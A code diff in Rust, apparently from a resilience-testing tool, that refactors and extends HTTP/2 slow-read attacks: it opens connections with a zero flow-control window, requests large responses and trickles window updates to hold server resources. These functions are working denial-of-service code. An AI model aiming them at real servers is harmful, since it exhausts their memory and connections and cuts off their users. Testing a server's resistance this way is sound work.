@@ -73,23 +73,62 @@ fn get(path: &str) -> Vec<u8> {
     block
 }
 
-/// Requests large answers with a window of zero bytes.
-pub(super) async fn unread_answers(attacker: &Attacker) -> io::Result<()> {
-    const HEADERS: u8 = 1;
-    const SETTINGS: u8 = 4;
-    const END_STREAM_AND_HEADERS: u8 = 5;
+const HEADERS: u8 = 1;
+const SETTINGS: u8 = 4;
+const WINDOW_UPDATE: u8 = 8;
+const END_STREAM_AND_HEADERS: u8 = 5;
+
+/// Begins an HTTP/2 connection whose streams have a window of zero bytes.
+async fn connect_without_window(attacker: &Attacker) -> io::Result<TcpStream> {
     const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];
     let mut stream = attacker.connect().await?;
     let mut sent = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     sent.extend(frame(SETTINGS, 0, 0, &NO_WINDOW));
+    stream.write_all(&sent).await?;
+    Ok(stream)
+}
+
+/// The frame that begins the request with this number on its connection.
+fn request(number: u32, path: &str) -> Vec<u8> {
+    frame(HEADERS, END_STREAM_AND_HEADERS, 2 * number + 1, &get(path))
+}
+
+/// Requests large answers with a window of zero bytes.
+pub(super) async fn unread_answers(attacker: &Attacker) -> io::Result<()> {
+    let mut stream = connect_without_window(attacker).await?;
+    let mut sent = Vec::new();
     for number in 0..STREAMS {
         let path = ["/metrics", "/openapi.json", "/docs"][number as usize % 3];
-        let id = 2 * number + 1;
-        sent.extend(frame(HEADERS, END_STREAM_AND_HEADERS, id, &get(path)));
+        sent.extend(request(number, path));
     }
     stream.write_all(&sent).await?;
     hold(&mut stream).await;
     Ok(())
+}
+
+/// Leaves a large answer unread, and reads a small one now and then.
+pub(super) async fn unread_beside_read_answers(attacker: &Attacker) -> io::Result<()> {
+    const WINDOW: u32 = 4096;
+    let mut stream = connect_without_window(attacker).await?;
+    let path = ["/metrics", "/openapi.json"][attacker.number % 2];
+    stream.write_all(&request(0, path)).await?;
+    let (mut reading, mut writing) = stream.into_split();
+    let drip = async {
+        for number in 1..u32::MAX {
+            tokio::time::sleep(DRIP).await;
+            let mut sent = request(number, "/livez");
+            let id = 2 * number + 1;
+            sent.extend(frame(WINDOW_UPDATE, 0, id, &WINDOW.to_be_bytes()));
+            writing.write_all(&sent).await?;
+        }
+        Ok(())
+    };
+    let read = async { while matches!(reading.read(&mut [0; 4096]).await, Ok(1..)) {} };
+    tokio::select! {
+        sent = drip => sent,
+        () = read => Ok(()),
+        () = tokio::time::sleep(HOLD) => Ok(()),
+    }
 }
 
 /// Sends a head, and disconnects once the answer begins.
